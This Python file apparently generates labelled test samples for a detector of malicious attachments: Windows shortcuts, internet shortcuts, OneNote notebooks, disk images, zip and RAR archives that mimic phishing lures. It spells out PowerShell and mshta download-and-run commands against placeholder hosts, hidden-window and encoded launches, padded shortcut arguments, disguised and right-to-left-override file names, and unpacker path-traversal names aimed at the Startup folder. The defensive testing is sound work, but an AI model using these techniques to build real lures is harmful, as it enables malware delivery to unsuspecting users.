"""Shortcuts, notebooks, disk images and archives that lead to a program."""

import io
import struct
import zipfile

from formats import disk_image, shortcut, windows_program
from plain import b64_wide, plain, sample, script, to_bytes

CODE = b64_wide("I·EX (New-Object Net.WebClient).Download·String('http://example.com/a')")

for arguments in (
    "/c msh·ta http://example.com/a.hta",
    "/c start \\\\192.0.2.1@80\\x\\a.exe & power·shell",
    '-c "iwr https://example.com/a -OutFile $env:TEMP\\a.exe"',
):
    sample("Shortcut_Fetches_Program", *(shortcut(arguments, path=path) for path in ("..\\..\\Windows\\System32\\cm·d.exe", "C:\\Windows\\System32\\WindowsPower·Shell\\v1.0\\power·shell.exe")))
for path, arguments in (
    ("..\\power·shell.exe", f"-NoP -e·nc {CODE}"),
    ("..\\power·shell.exe", "-w hid·den -c $d=[IO.File]::ReadAll·Bytes('a.lnk');i·ex $d"),
    ("..\\cm·d.exe", "/c p^o^w^e^r^s^h^e^l^l -c 1"),
    ("..\\cm·d.exe", "/c for %i in (*.lnk) do start %i"),
    ("..\\cm·d.exe", "/v /c find·str /b x a.lnk>%tmp%\\a.vbs&%tmp%\\a.vbs"),
):
    sample("Shortcut_Runs_Hidden_Code", shortcut(arguments, path=path), shortcut(arguments, path=path, name="Document"))
for blank in (" ", "\t", "\n"):
    sample("Shortcut_Hides_Arguments", shortcut(blank * 260 + "/c calc.exe", path="..\\cm·d.exe"))
for behind in (windows_program(size=60000), b"%PDF-1.7\n" + bytes(60000), b"PK\x03\x04" + bytes(range(256)) * 300):
    sample("Shortcut_Carries_File", shortcut("/c x", path="..\\cm·d.exe", behind=behind))
for icon in ("C:\\Program Files\\Microsoft Office\\WIN·WORD.EXE", "%SystemRoot%\\System32\\image·res.dll", ".\\invoice.pdf"):
    sample("Shortcut_Looks_Like_Document", shortcut("/c start x", path="..\\cm·d.exe", icon=icon), shortcut("-ep bypass -File a.ps1", path="..\\power·shell.exe", icon=icon))

for address in ("file://192.0.2.1/share/invoice.exe", "file://example.com@80/DavWWWRoot/a", "\\\\example.com\\x\\scan.vbs", "file:///\\\\example.com@SSL\\d\\a.lnk"):
    script("Internet_Shortcut_Starts_Program", f"[InternetShortcut]\nURL={address}\nIconIndex=0\n", f"[{{000214A0-0000-0000-C000-000000000046}}]\nProp3=19,9\n[InternetShortcut]\nIDList=\nURL={address}\n", case=True)

ONENOTE = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3")
STORE = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")


def notebook(content):
    """[MS-ONESTORE] 2.6.13: FileDataStoreObject with its length, and the footer class id."""
    head = ONENOTE + bytes(1008)
    return head + STORE + struct.pack("<QIQ", len(content), 0, 0) + content + bytes(-len(content) % 8) + bytes.fromhex("22a7fb713579a0409e15cf34cf4aa8b9")


sample("OneNote_Embeds_Program", *(notebook(to_bytes(content)) for content in (windows_program(), shortcut("/c x", path="cm·d.exe"), b"ITSF\x03\0\0\0" + bytes(90))))
for text in (
    '<html><HTA:APPLI·CATION id="x"><script>x</script></html>',
    "@ec·ho off\r\npower·shell -c 1\r\n",
    'Set w = Create·Object("WScr·ipt.Shell")\r\n',
    "<job id='a'><script language='JScript'>new Active·XObject('x')</script></job>",
):
    sample("OneNote_Embeds_Script", notebook(to_bytes(text)), notebook(to_bytes(text.upper())), notebook(b"\xff\xfe" + plain("Create·Object " + text).encode("utf-16-le")))

for names in (("Invoice.lnk", "data.dll"), ("a.LNK",), ("readme.txt", "New Document.lnk")):
    sample("Disk_Image_With_Shortcut", disk_image(*names), disk_image(*names, joliet=False), disk_image("a.bin", contents=(shortcut("/c x", path="cm·d.exe"),)))
for name in ("order.js", "Rechnung 12.vbs", "document.hta", "photo.scr", "a.wsf"):
    sample("Disk_Image_With_Script", disk_image(name), disk_image(name, joliet=False))
for name in ("invoice.pdf.exe", "scan.DOCX          .scr", "photo.jpg.lnk"):
    sample("Disk_Image_With_Program_In_Disguise", disk_image(name), disk_image(name, "b.txt"), disk_image(name, joliet=False, rock=True))


def archive(*names, flags=0):
    """A zip archive; `flags` is put into every header afterwards (1 = encrypted)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        for name in names:
            file.writestr(name, "content")
    content = bytearray(out.getvalue())
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = content.find(mark)
        while start >= 0:
            content[start + at] |= flags
            start = content.find(mark, start + 4)
    return bytes(content)


def rar(name, version=5):
    """A file header of RAR 5 (name in UTF-8) or RAR 4, as the technical notes describe them; sums are not checked here."""
    wide = name.encode()
    if version == 5:
        extra = b"\x0a\x03\x02" + bytes(8)
        head = bytes([2, 3, len(extra), 7, 7, 4, 0x20, 0, 0, len(wide)]) + wide + extra
        return b"Rar!\x1a\x07\x01\0" + bytes(4) + b"\x05\x01\0\0\0" + bytes(4) + bytes([len(head)]) + head + b"content"
    head = struct.pack("<BHHIIBIIBBHI", 0x74, 0x8000, 32 + len(wide), 7, 7, 2, 0, 0, 29, 48, len(wide), 32) + wide
    return b"Rar!\x1a\x07\0" + b"\xcf\x90\x73\0\0\x0d\0" + bytes(6) + bytes(2) + head + b"\x01content"


for name in ("invoice.pdf.exe", "folder/Scan 1.DOCX       .scr", "photo.jpg.vbs", "a.xlsx_.lnk"):
    sample("Archive_With_Program_In_Disguise", archive(name), archive("readme.txt", name), rar(name), rar(name, 4))
for name in ("invoice.pdf.js", "Scan.docx .JS", "folder/report.xlsx.ps1"):
    sample("Archive_With_Script_In_Disguise", archive(name), archive("readme.txt", name))
for name in ("setup.exe", "Document.js", "image.iso", "folder/a.lnk"):
    sample("Archive_Encrypted_Program", archive(name, flags=1), archive("readme.txt", name, flags=1), archive(name, flags=9))
for name in ("invoice\u202efdp.exe", "a\u202excod.scr", "\u202dxx\u202egpj.js"):
    sample("Archive_Turns_Names_Round", archive(name), archive("b.txt", name), rar(name))
for names in (("trade.pdf ", "trade.pdf /trade.pdf .cmd"), ("a.jpg ", "a.jpg /a.jpg .bat"), ("x.txt /x.txt  .vbs", "x.txt ")):
    sample("Archive_Exploits_Unpacker", archive(*names))
for path in ("C:\\C:C:../AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/a.exe", "D:\\\\192.0.2.1\\x\\a.exe"):
    sample("Archive_Exploits_Unpacker", bytes(7) + b"**ACE**\x14\x14\x02\0" + bytes(40) + path.encode() + b"content")
